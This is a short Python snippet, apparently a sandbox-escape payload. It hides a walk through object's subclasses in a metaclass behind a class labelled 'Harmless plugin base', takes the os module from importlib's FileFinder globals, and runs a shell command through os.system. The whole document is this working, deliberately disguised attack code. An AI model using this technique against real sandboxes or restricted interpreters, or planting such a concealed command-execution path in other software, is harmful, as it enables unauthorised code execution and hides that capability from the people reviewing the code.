# The walk hides in a metaclass: creating an innocent-looking Plugin class
# runs Probe.__new__, which finds importlib's FileFinder and takes the posix
# module that the import machinery stores as _os in its globals.
class Probe(type):
    def __new__(mcs, name, bases, ns):
        cls = super().__new__(mcs, name, bases, ns)
        for k in mcs.__mro__[-1].__subclasses__():
            if k.__name__ == 'FileFinder':
                cls.found = k.__init__.__globals__['_os']
        return cls


class Plugin(metaclass=Probe):
    """Harmless plugin base."""


print(Plugin.found.system('id'))
